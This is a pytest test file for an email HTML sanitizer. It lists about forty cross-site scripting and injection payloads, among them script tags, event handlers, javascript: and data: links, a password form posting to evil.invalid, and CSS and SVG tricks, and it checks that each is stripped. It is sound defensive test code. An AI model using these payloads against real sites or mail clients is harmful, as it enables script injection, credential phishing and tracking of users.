import re

import pytest

from postroom.mail.sanitize import sanitize_html, text_to_html


def _clean(html: str, *, images: bool = False) -> str:
    return sanitize_html(html, allow_remote_images=images, cid_url=lambda c: f"/m/1/cid/{c}/").html


# (name, hostile HTML, what must not survive, lower-cased). Each must come out harmless.
HOSTILE = [
    ("script", "<p>hi</p><script>alert(1)</script>", ["<script", "alert"]),
    ("script in caps", "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>", ["script", "evil"]),
    ("img onerror", '<img src="x" onerror="alert(1)">', ["onerror", "alert"]),
    ("body onload", "<body onload=alert(1)><p>x</p></body>", ["onload", "alert"]),
    ("javascript link", '<a href="javascript:alert(1)">x</a>', ["javascript", "alert"]),
    ("javascript with tab", '<a href="java&#9;script:alert(1)">x</a>', ["script", "alert"]),
    ("javascript spaced", '<a href="  JaVaScRiPt:alert(1)">x</a>', ["script", "alert"]),
    ("data link", '<a href="data:text/html,<script>alert(1)</script>">x</a>', ["data:", "alert"]),
    ("data image", '<img src="data:image/svg+xml;base64,PHN2Zz4=">', ["data:"]),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "msgbox"]),
    ("iframe", '<iframe src="http://evil.invalid/"></iframe>', ["iframe", "evil"]),
    ("srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ["srcdoc", "alert"]),
    (
        "form",
        '<form action="http://evil.invalid/"><input name="pw" type="password">'
        "<button formaction=http://evil.invalid/>Go</button></form>",
        ["<form", "<input", "<button", "evil", "formaction"],
    ),
    (
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
        ["<meta", "refresh", "evil"],
    ),
    ("style import", "<style>@import url(http://evil.invalid/x.css);</style>", ["<style", "evil"]),
    (
        "style expression",
        '<p style="width: expression(alert(1)); color: red">x</p>',
        ["expression", "alert"],
    ),
    (
        "style javascript url",
        "<p style=\"background-image: url('javascript:alert(1)')\">x</p>",
        ["url(", "javascript"],
    ),
    ("style remote url", '<p style="background:url(http://evil.invalid/t.png)">x</p>', ["evil"]),
    ("style escape", '<p style="background: u\\72 l(http://evil.invalid/)">x</p>', ["evil"]),
    ("style position", '<div style="position:fixed;top:0">Log in</div>', ["position"]),
    ("style moz-binding", '<p style="-moz-binding:url(http://evil.invalid/x)">x</p>', ["evil"]),
    ("svg onload", "<svg onload=alert(1)><circle r=1 /></svg>", ["svg", "onload", "alert"]),
    ("svg script", "<svg><script>alert(1)</script></svg>", ["svg", "script", "alert"]),
    ("math", '<math><maction actiontype="statusline" xlink:href="javascript:x">', ["javascript"]),
    ("object", '<object data="http://evil.invalid/x.swf"></object>', ["object", "evil"]),
    ("embed", '<embed src="http://evil.invalid/x.swf">', ["embed", "evil"]),
    ("base", '<base href="http://evil.invalid/"><a href="x">x</a>', ["<base", "evil"]),
    ("link", '<link rel="stylesheet" href="http://evil.invalid/x.css">', ["<link", "evil"]),
    ("background attr", '<table background="http://evil.invalid/t.png">', ["evil"]),
    ("srcset", '<img srcset="http://evil.invalid/t.png 1x">', ["evil", "srcset"]),
    ("video poster", '<video poster="http://evil.invalid/p.png"></video>', ["evil", "video"]),
    ("input image", '<input type="image" src="http://evil.invalid/x">', ["evil", "input"]),
    ("anchor ping", '<a href="http://ok.test/" ping="http://evil.invalid/">x</a>', ["evil"]),
    ("relative img", '<img src="/logout/">', ["logout"]),
    ("protocol-relative", '<img src="//evil.invalid/t.png">', ["evil"]),
    ("tab in scheme", '<img src="ht&#9;tp://evil.invalid/t.png">', ["evil"]),
    ("comment trick", "<!--<script>alert(1)</script>-->x", ["script", "alert"]),
    ("broken attr", '<img src=x alt="&quot;><script>alert(1)</script>">', ["<script"]),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ["onerror"]),
]


@pytest.mark.parametrize(
    ("html", "forbidden"), [(h, f) for _, h, f in HOSTILE], ids=[n for n, _, _ in HOSTILE]
)
def test_it_makes_hostile_html_harmless(html, forbidden):
    cleaned = _clean(html).lower()
    for needle in forbidden:
        assert needle not in cleaned, f"{needle!r} survived: {cleaned}"


def test_it_keeps_ordinary_formatting():
    html = (
        '<table width="600" cellpadding="4"><tr><td align="center" bgcolor="#eee">'
        '<p style="color: #333; font-weight: bold; margin: 0 0 8px">Hello</p>'
        "<ul><li><em>one</em></li></ul><blockquote>quoted</blockquote></td></tr></table>"
    )
    cleaned = _clean(html)
    for kept in (
        "<table",
        'cellpadding="4"',
        'bgcolor="#eee"',
        "color:#333",
        "<em>",
        "<blockquote>",
    ):
        assert kept in cleaned


def test_it_blocks_and_counts_remote_images_unless_allowed():
    html = '<img src="http://tracker.invalid/p.png" alt="logo"><img src="HTTPS://t.invalid/2">'
    blocked = sanitize_html(html, allow_remote_images=False, cid_url=None)
    assert blocked.blocked_remote == 2
    assert "tracker" not in blocked.html and "t.invalid" not in blocked.html
    assert 'alt="logo"' in blocked.html  # the reader still sees what was there

    allowed = sanitize_html(html, allow_remote_images=True, cid_url=None)
    assert allowed.blocked_remote == 0
    assert 'src="http://tracker.invalid/p.png"' in allowed.html


def test_it_counts_a_tab_hidden_remote_image():
    result = sanitize_html(
        '<img src="ht&#9;tp://tracker.invalid/p.png">', allow_remote_images=False, cid_url=None
    )
    assert result.blocked_remote == 1
    assert "tracker" not in result.html


def test_links_open_in_a_new_tab_without_opener_or_referrer():
    cleaned = _clean('<a href="http://ok.test/page" target="_top" rel="opener">ok</a>')
    assert 'href="http://ok.test/page"' in cleaned
    assert 'target="_blank"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned
    assert "_top" not in cleaned and '"opener"' not in cleaned


def test_mailto_links_survive():
    assert 'href="mailto:anna@customer.test"' in _clean('<a href="mailto:anna@customer.test">a</a>')


def test_it_rewrites_cid_images_to_the_postroom_url():
    cleaned = _clean('<img src="cid:logo%40acme.test" alt="Acme">')
    assert cleaned == '<img src="/m/1/cid/logo@acme.test/" alt="Acme">'


def test_it_drops_cid_images_without_a_resolver_and_cid_links():
    result = sanitize_html('<img src="cid:x@y">', allow_remote_images=True, cid_url=None)
    assert "cid" not in result.html
    assert "cid" not in _clean('<a href="cid:x@y">x</a>')


def test_plain_text_is_escaped_and_linkified():
    html = text_to_html("Hi <b>there</b> & see https://acme.test/a?b=1 or write to a@b.test")
    assert "&lt;b&gt;there&lt;/b&gt; &amp; see" in html
    assert "<b>" not in html
    assert re.search(
        r'<a href="https://acme.test/a\?b=1" target="_blank" rel="noopener noreferrer">', html
    )
    assert 'href="mailto:a@b.test"' in html


def test_plain_text_never_links_javascript():
    assert "<a" not in text_to_html("javascript:alert(1) and <script>x</script>")
